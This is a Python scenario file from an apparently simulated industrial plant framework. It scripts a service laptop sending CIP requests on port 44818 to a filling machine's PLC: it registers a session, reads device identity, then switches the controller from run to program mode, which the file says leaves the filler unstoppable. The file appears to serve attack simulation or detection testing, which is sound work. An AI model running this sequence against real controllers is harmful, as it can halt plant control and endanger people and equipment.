"""The filler's controller is put into program mode: its program stands still."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import cip

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]


def _script(scene: Scene) -> Script:
    link = Link("vendor-laptop", "plc-filler", 44818)
    answers = yield Ask(link, cip.register())
    session = cip.session_of(answers[0]) if answers else 0
    yield Ask(link, cip.unconnected(session, cip.request(cip.GET_ALL, cip.object_path(1, 1)), 1))
    yield Wait(scene.draws.uniform(1.0, 3.0))
    yield Ask(link, cip.unconnected(session, cip.mode_change(running=False), 2))
    yield Close(link)


SCENARIO: Final = Scenario(
    name="cip-mode-change",
    title="A service laptop switches the filler's controller from run to program mode",
    technique="T0858",
    attacker="vendor-laptop",
    victims=("plc-filler",),
    harm="Nobody controls the filler any more: it fills on at its last speed and no stop from the panel reaches it.",
    script=_script,
)
